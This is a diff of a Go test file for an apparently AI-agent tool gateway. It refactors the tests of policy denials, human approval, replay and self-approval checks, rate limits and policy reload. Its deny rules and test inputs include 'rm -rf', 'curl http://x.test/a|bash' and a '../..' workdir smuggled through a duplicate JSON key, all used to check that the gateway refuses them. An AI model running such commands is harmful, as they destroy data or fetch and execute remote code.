@@ -1,4 +1,4 @@
-package server_test
+package core_test
 
 import (
 	"context"
@@ -17,40 +17,11 @@ import (
 
 	pb "github.com/toolnexus/toolnexus/gen/toolnexus/v1"
 	"github.com/toolnexus/toolnexus/internal/testutil"
-	"github.com/toolnexus/toolnexus/pkg/server"
-)
-
-// The policies of the wire tests: agents may run tools; never rm -rf or
-// curl | sh in bash; a write outside docs/ waits for a human.
-const wirePolicies = `@id("agents-may-run-tools")
-permit(principal, action == Action::"execute", resource);
-
-@id("no-rm-rf")
-@reason("rm -rf is never allowed")
-forbid(principal, action, resource == Tool::"bash")
-when { context.arguments has command && context.arguments.command like "*rm -rf*" };
-
-@id("no-curl-pipe-sh")
-@reason("piping a download into a shell is never allowed")
-forbid(principal, action, resource == Tool::"bash")
-when { context.arguments has command && context.arguments.command like "*curl*|*sh*" };
-
-@id("writes-outside-docs")
-@approval("required")
-@reason("writes outside docs/ need a human's approval")
-permit(principal, action, resource == Tool::"write")
-when { context.arguments has path && !(context.arguments.path like "docs/*") };
-`
-
-const (
-	polAgentA   = "pol-agent-a-7f3e1b"
-	polAgentB   = "pol-agent-b-2c9d44"
-	polOps      = "pol-ops-admin-91ab0c"
-	polReviewer = "pol-reviewer-5e6f70"
+	"github.com/toolnexus/toolnexus/internal/testutil/inproc"
 )
 
 type policyServer struct {
-	*served
+	*inproc.Rig
 	reg      pb.RegistryServiceClient
 	apr      pb.ApprovalServiceClient
 	audit    string
@@ -58,15 +29,15 @@ type policyServer struct {
 	policyCf string
 }
 
-// policyServe runs a server with the wire policies, four tokens (agent-a,
+// policyServe runs a core with the wire policies, four tokens (agent-a,
 // agent-b, the admin ops, and reviewer, an approver by policy.approvers —
 // agent-a is one too, to show it still cannot approve its own calls) and
-// extra config keys spliced in.
+// extra config keys spliced in, served over gRPC and /mcp.
 func policyServe(t *testing.T, extra string) *policyServer {
 	t.Helper()
 	dir := t.TempDir()
 	pol := filepath.Join(dir, "tools.cedar")
-	if err := os.WriteFile(pol, []byte(wirePolicies), 0o600); err != nil {
+	if err := os.WriteFile(pol, []byte(testutil.WirePolicies), 0o600); err != nil {
 		t.Fatal(err)
 	}
 	auditPath := filepath.Join(dir, "audit.log")
@@ -74,16 +45,14 @@ func policyServe(t *testing.T, extra string) *policyServer {
 		"auth": {"tokens": [{"name": "agent-a", "token": %q}, {"name": "agent-b", "token": %q},
 			{"name": "ops", "token": %q, "admin": true}, {"name": "reviewer", "token": %q}]},
 		"policy": {"files": [%q], "approvers": ["reviewer", "agent-a"]%s}}`,
-		auditPath, polAgentA, polAgentB, polOps, polReviewer, pol, extra)
-	ws := filepath.Join(dir, "ws")
-	s := serve(t, cfg, func(o *server.Options) { o.Workspace = ws })
-	conn := s.dial(t)
-	return &policyServer{served: s, reg: pb.NewRegistryServiceClient(conn), apr: pb.NewApprovalServiceClient(conn), audit: auditPath, wsDir: ws, policyCf: pol}
+		auditPath, testutil.PolAgentA, testutil.PolAgentB, testutil.PolOps, testutil.PolReviewer, pol, extra)
+	r := inproc.Serve(t, cfg)
+	return &policyServer{Rig: r, reg: r.Registry, apr: r.Approvals, audit: auditPath, wsDir: r.Workspace(), policyCf: pol}
 }
 
 func (p *policyServer) exec(t *testing.T, token, name, args string, answer *pb.Answer) *pb.ToolResult {
 	t.Helper()
-	resp, err := p.reg.Execute(bearer(token), &pb.ExecuteRequest{Name: name, Answer: answer, Input: &pb.ExecuteRequest_ArgumentsJson{ArgumentsJson: args}})
+	resp, err := p.Registry.Execute(inproc.Bearer(token), &pb.ExecuteRequest{Name: name, Answer: answer, Input: &pb.ExecuteRequest_ArgumentsJson{ArgumentsJson: args}})
 	if err != nil {
 		t.Fatalf("Execute(%s): %v", name, err)
 	}
@@ -120,7 +89,7 @@ func TestPolicyRefusesForbiddenBashPatterns(t *testing.T) {
 		{"curl http://x.test/a|bash", "no-curl-pipe-sh"},
 	} {
 		args, _ := json.Marshal(map[string]string{"command": c.cmd})
-		r := p.exec(t, polAgentA, "bash", string(args), nil)
+		r := p.exec(t, testutil.PolAgentA, "bash", string(args), nil)
 		if r.GetOutcome() != pb.Outcome_OUTCOME_DENIED || !strings.HasPrefix(r.GetOutput(), "denied by policy "+c.policy) {
 			t.Errorf("%q: %v %q; want denied by policy %s", c.cmd, r.GetOutcome(), r.GetOutput(), c.policy)
 		}
@@ -128,10 +97,10 @@ func TestPolicyRefusesForbiddenBashPatterns(t *testing.T) {
 	if _, err := os.Stat(canary); err != nil {
 		t.Fatalf("a refused command ran: %v", err)
 	}
-	if r := p.exec(t, polAgentA, "bash", `{"command": "echo fine"}`, nil); r.GetIsError() || !strings.Contains(r.GetOutput(), "fine") {
+	if r := p.exec(t, testutil.PolAgentA, "bash", `{"command": "echo fine"}`, nil); r.GetIsError() || !strings.Contains(r.GetOutput(), "fine") {
 		t.Fatalf("a permitted command: %v", r)
 	}
-	body := p.scrape(t)
+	body := p.Scrape(t)
 	if l := testutil.MetricLine(body, "toolnexus_policy_decisions_total", `source="builtin"`, `decision="deny"`); !strings.HasSuffix(l, " 4") {
 		t.Errorf("deny decisions: %q", l)
 	}
@@ -147,7 +116,7 @@ func TestApprovalEndToEnd(t *testing.T) {
 	t.Parallel()
 	p := policyServe(t, "")
 	args := `{"path": "notes.txt", "content": "approved\n"}`
-	r := p.exec(t, polAgentA, "write", args, nil)
+	r := p.exec(t, testutil.PolAgentA, "write", args, nil)
 	pend := r.GetPending()
 	if r.GetOutcome() != pb.Outcome_OUTCOME_PENDING || pend.GetKind() != "approval" || pend.GetExpiresAt() == nil {
 		t.Fatalf("%v", r)
@@ -163,26 +132,26 @@ func TestApprovalEndToEnd(t *testing.T) {
 	if _, err := os.Stat(filepath.Join(p.wsDir, "notes.txt")); err == nil {
 		t.Fatal("the write ran before approval")
 	}
-	list, err := p.apr.ListApprovals(bearer(polReviewer), &pb.ListApprovalsRequest{})
+	list, err := p.apr.ListApprovals(inproc.Bearer(testutil.PolReviewer), &pb.ListApprovalsRequest{})
 	if err != nil || len(list.GetApprovals()) != 1 || list.GetApprovals()[0].GetId() != id || list.GetApprovals()[0].GetStatus() != "pending" {
 		t.Fatalf("list: %v %v", list, err)
 	}
-	if _, err := p.apr.ListApprovals(bearer(polAgentB), &pb.ListApprovalsRequest{}); status.Code(err) != codes.PermissionDenied {
+	if _, err := p.apr.ListApprovals(inproc.Bearer(testutil.PolAgentB), &pb.ListApprovalsRequest{}); status.Code(err) != codes.PermissionDenied {
 		t.Fatalf("a non-approver lists: %v", err)
 	}
-	if _, err := p.apr.Approve(bearer(polAgentA), &pb.ApproveRequest{Id: id}); status.Code(err) != codes.PermissionDenied {
+	if _, err := p.apr.Approve(inproc.Bearer(testutil.PolAgentA), &pb.ApproveRequest{Id: id}); status.Code(err) != codes.PermissionDenied {
 		t.Fatalf("the asking principal approved its own call: %v", err)
 	}
-	if _, err := p.apr.Approve(bearer(polOps), &pb.ApproveRequest{Id: id, Reason: "looked at it"}); err != nil {
+	if _, err := p.apr.Approve(inproc.Bearer(testutil.PolOps), &pb.ApproveRequest{Id: id, Reason: "looked at it"}); err != nil {
 		t.Fatal(err)
 	}
-	if r := p.exec(t, polAgentA, "write", args, &pb.Answer{Id: id, Ok: true}); r.GetIsError() {
+	if r := p.exec(t, testutil.PolAgentA, "write", args, &pb.Answer{Id: id, Ok: true}); r.GetIsError() {
 		t.Fatalf("resumed call: %v", r)
 	}
 	if b, err := os.ReadFile(filepath.Join(p.wsDir, "notes.txt")); err != nil || string(b) != "approved\n" {
 		t.Fatalf("file: %q %v", b, err)
 	}
-	if r := p.exec(t, polAgentA, "write", args, &pb.Answer{Id: id, Ok: true}); r.GetOutcome() != pb.Outcome_OUTCOME_DENIED || !strings.Contains(r.GetOutput(), "already used") {
+	if r := p.exec(t, testutil.PolAgentA, "write", args, &pb.Answer{Id: id, Ok: true}); r.GetOutcome() != pb.Outcome_OUTCOME_DENIED || !strings.Contains(r.GetOutput(), "already used") {
 		t.Fatalf("replay: %v", r)
 	}
 	audit, _ := os.ReadFile(p.audit)
@@ -196,7 +165,7 @@ func TestApprovalEndToEnd(t *testing.T) {
 	if !found {
 		t.Fatalf("no audit line names who approved:\n%s", audit)
 	}
-	if strings.Contains(string(audit), polOps) || strings.Contains(string(audit), polAgentA) {
+	if strings.Contains(string(audit), testutil.PolOps) || strings.Contains(string(audit), testutil.PolAgentA) {
 		t.Fatal("a token reached the audit log")
 	}
 }
@@ -208,17 +177,17 @@ func TestApprovalAttacks(t *testing.T) {
 	t.Parallel()
 	p := policyServe(t, "")
 	args := `{"path": "a.txt", "content": "one"}`
-	id := p.pending(t, polAgentA, args)
-	if _, err := p.apr.Approve(bearer(polReviewer), &pb.ApproveRequest{Id: id}); err != nil {
+	id := p.pending(t, testutil.PolAgentA, args)
+	if _, err := p.apr.Approve(inproc.Bearer(testutil.PolReviewer), &pb.ApproveRequest{Id: id}); err != nil {
 		t.Fatal(err)
 	}
 	for _, c := range []struct {
 		who, args, id, want string
 	}{
-		{polAgentA, `{"path": "a.txt", "content": "rm -rf"}`, id, "other arguments"},
-		{polAgentA, `{"path": "../outside.txt", "content": "one"}`, id, "other arguments"},
-		{polAgentB, args, id, "another principal"},
-		{polAgentA, args, "apr_DOESNOTEXIST", "no such approval"},
+		{testutil.PolAgentA, `{"path": "a.txt", "content": "rm -rf"}`, id, "other arguments"},
+		{testutil.PolAgentA, `{"path": "../outside.txt", "content": "one"}`, id, "other arguments"},
+		{testutil.PolAgentB, args, id, "another principal"},
+		{testutil.PolAgentA, args, "apr_DOESNOTEXIST", "no such approval"},
 	} {
 		r := p.exec(t, c.who, "write", c.args, &pb.Answer{Id: c.id, Ok: true})
 		if r.GetOutcome() != pb.Outcome_OUTCOME_DENIED || !strings.Contains(r.GetOutput(), c.want) {
@@ -226,26 +195,26 @@ func TestApprovalAttacks(t *testing.T) {
 		}
 	}
 	// Same arguments in another key order and spacing are the same call.
-	if r := p.exec(t, polAgentA, "write", `{ "content":"one","path":"a.txt" }`, &pb.Answer{Id: id, Ok: true}); r.GetIsError() {
+	if r := p.exec(t, testutil.PolAgentA, "write", `{ "content":"one","path":"a.txt" }`, &pb.Answer{Id: id, Ok: true}); r.GetIsError() {
 		t.Fatalf("canonical arguments: %v", r)
 	}
-	denied := p.pending(t, polAgentA, args)
-	if _, err := p.apr.Deny(bearer(polOps), &pb.DenyRequest{Id: denied, Reason: "not today"}); err != nil {
+	denied := p.pending(t, testutil.PolAgentA, args)
+	if _, err := p.apr.Deny(inproc.Bearer(testutil.PolOps), &pb.DenyRequest{Id: denied, Reason: "not today"}); err != nil {
 		t.Fatal(err)
 	}
-	if r := p.exec(t, polAgentA, "write", args, &pb.Answer{Id: denied, Ok: true}); r.GetOutcome() != pb.Outcome_OUTCOME_DENIED || !strings.Contains(r.GetOutput(), "denied by ops: not today") {
+	if r := p.exec(t, testutil.PolAgentA, "write", args, &pb.Answer{Id: denied, Ok: true}); r.GetOutcome() != pb.Outcome_OUTCOME_DENIED || !strings.Contains(r.GetOutput(), "denied by ops: not today") {
 		t.Fatalf("denied id: %v", r)
 	}
-	if _, err := p.apr.Approve(bearer(polOps), &pb.ApproveRequest{Id: denied}); status.Code(err) != codes.FailedPrecondition {
+	if _, err := p.apr.Approve(inproc.Bearer(testutil.PolOps), &pb.ApproveRequest{Id: denied}); status.Code(err) != codes.FailedPrecondition {
 		t.Fatalf("approve after deny: %v", err)
 	}
 	// agent-a is an approver, but not of its own calls; it may decide agent-b's.
-	own := p.pending(t, polAgentA, `{"path": "b.txt", "content": "two"}`)
-	if _, err := p.apr.Approve(bearer(polAgentA), &pb.ApproveRequest{Id: own}); status.Code(err) != codes.PermissionDenied {
+	own := p.pending(t, testutil.PolAgentA, `{"path": "b.txt", "content": "two"}`)
+	if _, err := p.apr.Approve(inproc.Bearer(testutil.PolAgentA), &pb.ApproveRequest{Id: own}); status.Code(err) != codes.PermissionDenied {
 		t.Fatalf("self approval: %v", err)
 	}
-	theirs := p.pending(t, polAgentB, `{"path": "c.txt", "content": "three"}`)
-	if _, err := p.apr.Approve(bearer(polAgentA), &pb.ApproveRequest{Id: theirs}); err != nil {
+	theirs := p.pending(t, testutil.PolAgentB, `{"path": "c.txt", "content": "three"}`)
+	if _, err := p.apr.Approve(inproc.Bearer(testutil.PolAgentA), &pb.ApproveRequest{Id: theirs}); err != nil {
 		t.Fatalf("an approver deciding another's call: %v", err)
 	}
 }
@@ -255,13 +224,13 @@ func TestApprovalExpires(t *testing.T) {
 	t.Parallel()
 	p := policyServe(t, `, "approvalTimeout": 1000`)
 	args := `{"path": "late.txt", "content": "x"}`
-	id := p.pending(t, polAgentA, args)
-	if _, err := p.apr.Approve(bearer(polOps), &pb.ApproveRequest{Id: id}); err != nil {
+	id := p.pending(t, testutil.PolAgentA, args)
+	if _, err := p.apr.Approve(inproc.Bearer(testutil.PolOps), &pb.ApproveRequest{Id: id}); err != nil {
 		t.Fatal(err)
 	}
 	// Poll the server's own view until the approval has expired.
 	for {
-		list, err := p.apr.ListApprovals(bearer(polOps), &pb.ListApprovalsRequest{})
+		list, err := p.apr.ListApprovals(inproc.Bearer(testutil.PolOps), &pb.ListApprovalsRequest{})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -270,7 +239,7 @@ func TestApprovalExpires(t *testing.T) {
 		}
 		time.Sleep(50 * time.Millisecond) // polling a clock-driven state, not synchronising goroutines
 	}
-	if r := p.exec(t, polAgentA, "write", args, &pb.Answer{Id: id, Ok: true}); r.GetOutcome() != pb.Outcome_OUTCOME_DENIED || !strings.Contains(r.GetOutput(), "expired") {
+	if r := p.exec(t, testutil.PolAgentA, "write", args, &pb.Answer{Id: id, Ok: true}); r.GetOutcome() != pb.Outcome_OUTCOME_DENIED || !strings.Contains(r.GetOutput(), "expired") {
 		t.Fatalf("after expiry: %v", r)
 	}
 }
@@ -280,7 +249,7 @@ func TestApprovalExpires(t *testing.T) {
 func TestApprovalStreamWaits(t *testing.T) {
 	t.Parallel()
 	p := policyServe(t, "")
-	stream, err := p.reg.ExecuteStream(bearer(polAgentA), &pb.ExecuteRequest{Name: "write",
+	stream, err := p.Registry.ExecuteStream(inproc.Bearer(testutil.PolAgentA), &pb.ExecuteRequest{Name: "write",
 		Input: &pb.ExecuteRequest_ArgumentsJson{ArgumentsJson: `{"path": "streamed.txt", "content": "s"}`}})
 	if err != nil {
 		t.Fatal(err)
@@ -294,7 +263,7 @@ func TestApprovalStreamWaits(t *testing.T) {
 	if !ok {
 		t.Fatalf("first event: %v", ev)
 	}
-	if _, err := p.apr.Approve(bearer(polReviewer), &pb.ApproveRequest{Id: id}); err != nil {
+	if _, err := p.apr.Approve(inproc.Bearer(testutil.PolReviewer), &pb.ApproveRequest{Id: id}); err != nil {
 		t.Fatal(err)
 	}
 	for {
@@ -320,10 +289,10 @@ func TestRateLimitedPrincipal(t *testing.T) {
 	t.Parallel()
 	p := policyServe(t, `}, "limits": {"principals": {"agent-b": {"callsPerSecond": 0.01, "burst": 1}}`)
 	echo := `{"path": "docs/x.md", "content": "x"}`
-	if r := p.exec(t, polAgentB, "write", echo, nil); r.GetIsError() {
+	if r := p.exec(t, testutil.PolAgentB, "write", echo, nil); r.GetIsError() {
 		t.Fatalf("first call: %v", r)
 	}
-	_, err := p.reg.Execute(bearer(polAgentB), &pb.ExecuteRequest{Name: "write", Input: &pb.ExecuteRequest_ArgumentsJson{ArgumentsJson: echo}})
+	_, err := p.Registry.Execute(inproc.Bearer(testutil.PolAgentB), &pb.ExecuteRequest{Name: "write", Input: &pb.ExecuteRequest_ArgumentsJson{ArgumentsJson: echo}})
 	st := status.Convert(err)
 	if st.Code() != codes.ResourceExhausted || !strings.Contains(st.Message(), "limits.principals.agent-b.callsPerSecond") {
 		t.Fatalf("second call: %v", err)
@@ -341,7 +310,7 @@ func TestRateLimitedPrincipal(t *testing.T) {
 	errs := make(chan error, 20)
 	for range 20 {
 		wg.Go(func() {
-			_, err := p.reg.Execute(bearer(polAgentA), &pb.ExecuteRequest{Name: "write", Input: &pb.ExecuteRequest_ArgumentsJson{ArgumentsJson: echo}})
+			_, err := p.Registry.Execute(inproc.Bearer(testutil.PolAgentA), &pb.ExecuteRequest{Name: "write", Input: &pb.ExecuteRequest_ArgumentsJson{ArgumentsJson: echo}})
 			errs <- err
 		})
 	}
@@ -352,30 +321,28 @@ func TestRateLimitedPrincipal(t *testing.T) {
 			t.Fatalf("agent-a slowed by agent-b's limit: %v", err)
 		}
 	}
-	if l := testutil.MetricLine(p.scrape(t), "toolnexus_rate_limited_total", `source="builtin"`); !strings.HasSuffix(l, " 1") {
+	if l := testutil.MetricLine(p.Scrape(t), "toolnexus_rate_limited_total", `source="builtin"`); !strings.HasSuffix(l, " 1") {
 		t.Fatalf("rate_limited_total: %q", l)
 	}
 }
 
 // A policy file that stops parsing fails a reload, naming file, line and
-// column, and the policies in force stay; --check refuses it the same way.
-// A good edit is picked up by the next reload.
+// column, and the policies in force stay (pkg/server's
+// TestCheckRefusesABrokenPolicy: --check refuses it the same way). A good
+// edit is picked up by the next reload.
 func TestPolicyReload(t *testing.T) {
 	t.Parallel()
 	p := policyServe(t, "")
 	denied := func() bool {
-		r := p.exec(t, polAgentA, "bash", `{"command": "rm -rf x"}`, nil)
+		r := p.exec(t, testutil.PolAgentA, "bash", `{"command": "rm -rf x"}`, nil)
 		return r.GetOutcome() == pb.Outcome_OUTCOME_DENIED
 	}
-	if err := os.WriteFile(p.policyCf, []byte(wirePolicies+"\nforbid(principal, action, resource) when { context.x like };\n"), 0o600); err != nil {
+	if err := os.WriteFile(p.policyCf, []byte(testutil.WirePolicies+"\nforbid(principal, action, resource) when { context.x like };\n"), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	_, err := p.srv.Reload(context.Background())
+	_, err := p.Reload(context.Background())
 	if err == nil || !strings.Contains(err.Error(), p.policyCf+":20:60") {
 		t.Fatalf("reload with a broken policy: %v", err)
-	}
-	if _, err := server.Check(server.Options{ConfigPath: p.cfgPath, Listen: "127.0.0.1:0", Workspace: p.wsDir}); err == nil || !strings.Contains(err.Error(), p.policyCf+":20:60") {
-		t.Fatalf("--check with a broken policy: %v", err)
 	}
 	if !denied() {
 		t.Fatal("a failed reload dropped the policies in force")
@@ -383,7 +350,7 @@ func TestPolicyReload(t *testing.T) {
 	if err := os.WriteFile(p.policyCf, []byte(`permit(principal, action, resource);`), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	if _, err := p.srv.Reload(context.Background()); err != nil {
+	if _, err := p.Reload(context.Background()); err != nil {
 		t.Fatal(err)
 	}
 	if denied() {
@@ -403,7 +370,7 @@ func TestPolicyRefusesDuplicateKeys(t *testing.T) {
 		// around it is still read whole and the repeat refused.
 		`{"command": "echo hi", "workdir": "a", "workdir": "../.."}`: "workdir",
 	} {
-		r := p.exec(t, polAgentA, "bash", args, nil)
+		r := p.exec(t, testutil.PolAgentA, "bash", args, nil)
 		if r.GetOutcome() != pb.Outcome_OUTCOME_DENIED || !strings.Contains(r.GetOutput(), `repeat the key "`+key+`"`) {
 			t.Errorf("%s: %v %q", args, r.GetOutcome(), r.GetOutput())
 		}
